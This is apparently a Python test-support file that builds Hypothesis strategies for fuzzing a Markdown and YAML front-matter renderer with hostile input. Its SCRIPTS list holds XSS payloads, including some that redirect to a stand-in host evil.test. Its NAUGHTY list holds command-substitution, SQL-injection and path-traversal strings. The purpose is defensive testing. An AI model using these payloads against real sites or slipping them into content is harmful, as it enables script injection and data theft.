"""Hostile words, made by rules: odd YAML, every kind of Markdown, naughty strings, scripts."""

from __future__ import annotations

from hypothesis import strategies as st

NAUGHTY = (
    *("", " ", "\t", "null", "~", "undefined", "NaN", "Infinity", "-0", "1e999", "0x1F", "1_000"),
    *("true", "No", "off", "2026-13-45", "9999-12-31", "0000-00-00", "1:30:00", "=1+1", "@SUM(1)"),
    *("../../etc/passwd", "C:\\NUL", "con", "...", "-", "--help", "$(id)", "`id`", "%s%n", "{{x}}"),
    *("'; DROP TABLE a; --", "{% raw %}", "&lt;b&gt;", "&#0;", "&#x1b;", "%00", "%2e%2e%2f", "\\"),
    *(
        "Ω≈ç√∫",
        "田中さん",
        "이재명",
        "مرحبا",
        "שלום",
        "Ⱥ",
        "İ",
        "ß",
        "ﬃ",
        "e\u0301",
        "\u00e9",
        "👩\u200d🚀",
    ),
    *(
        "\u200b",
        "\u202e",
        "\ufeff",
        "\u2028",
        "\u00ad",
        "\u3164",
        "Z\u0351\u036b",
        "\ufffd",
        "\U0001f4a9",
    ),
    *(
        "a" * 300,
        "가" * 120,
        "-" * 200,
        "a-" * 100,
        "[" * 40,
        "(" * 40,
        '"' * 9,
        "'" * 9,
        "a: b: c",
    ),
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="java&#9;script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](x){onerror=alert(1)}",
    "*x*{style='background:url(//evil.test)' onclick=alert(1)}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.test><input name=a><button>b</button></form>",
    "<base href=//evil.test/>",
    '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "<details open ontoggle=alert(1)>",
    "</article></body></html>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import '//evil.test'</style>",
    "'\"><script>alert(1)</script>",
)
YAML = (
    *(
        "key: [",
        "key: {",
        "- - - a",
        "? a\n: b",
        "&a b",
        "*a",
        "!!python/object a",
        "!x y",
        "<<: *a",
    ),
    *(
        "a: |\n  b\n c",
        "a: >-\n\n  b",
        "%YAML 1.2",
        "---",
        "...",
        "a:\tb",
        "\ta: b",
        "a: 'b",
        'a: "\\x',
    ),
    *(
        "{a: b, a: c}",
        "[a, [b, [c]]]",
        "a: b # c",
        "a: #c",
        "'a': b",
        "a : b",
        "a:b",
        "@a",
        "`a`",
        "| ",
    ),
    *("on: yes", "1: 2", "~: ~", "? ", ": ", "a: !!binary aGk=", "=: 1", "a: 2026-01-01T00:00:00Z"),
)
MARKDOWN = (
    *(
        "# a",
        "a\n===",
        "- a\n    - b",
        "1. a\n\n    b",
        "> a\n> > b",
        "    code",
        "```py\ncode\n```",
    ),
    *(
        "`a`",
        "``a ` b``",
        "*a*",
        "**a**",
        "***a***",
        "_a_",
        "~~a~~",
        "[a](b)",
        "[a](<b c>)",
        "[a][b]",
    ),
    *(
        "[b]: c 'd'",
        "![a](b 'c')",
        "<https://a.example>",
        "<a@b.example>",
        "a  \nb",
        "a\\\nb",
        "---",
    ),
    *(
        "| a | b |\n|---|---|\n| c | d |",
        "!!! note\n    a",
        "??? tip\n    a",
        '=== "a"\n\n    b',
        "[^1]",
    ),
    *(
        "[^1]: a",
        "*[ab]: c",
        "a\n: b",
        "- [ ] a",
        ":smile:",
        "++a++",
        "==a==",
        "^a^",
        "H~2~O",
        "$a$",
    ),
    *(
        "&copy;",
        "&#35;",
        "\\*a\\*",
        "<!-- a -->",
        "<div markdown>\n*a*\n</div>",
        "{: .a }",
        "a{#b .c d=e}",
    ),
    *("<!-- briefings: latest limit=3 -->", "<!-- briefings: x -->", "<!-- briefings:", "[@daily]"),
    *(
        "[@daily; @other]",
        "[@nobody]",
        "[@",
        "[@daily",
        "@daily",
        "[[@daily]]",
        "[@daily](b)",
        "\\[@daily]",
    ),
    *(
        "<![0]>",
        "<!DOCTYPE a>",
        "<?php ?>",
        "</a>",
        "<a",
        "<",
        "https://[abc]/y",
        "[a](http://[)",
        "%",
    ),
)

characters = st.characters(codec="utf-8")
line = st.text(characters, max_size=60).map(lambda text: " ".join(text.split()))
word = st.one_of(st.sampled_from(NAUGHTY), st.sampled_from(SCRIPTS), line)
"""Whatever somebody may write into a field."""
piece = st.one_of(st.sampled_from(MARKDOWN), st.sampled_from(SCRIPTS), word)
body = st.lists(piece, max_size=8).flatmap(
    lambda parts: st.sampled_from(("\n\n", "\n", " ", "")).map(lambda gap: gap.join(parts))
)
"""Whatever somebody may write below the front matter."""
yaml_text = st.lists(
    st.one_of(st.sampled_from(YAML), st.sampled_from(NAUGHTY), line), max_size=8
).map("\n".join)
"""Front matter of a stranger to YAML, or of somebody who knows it too well."""
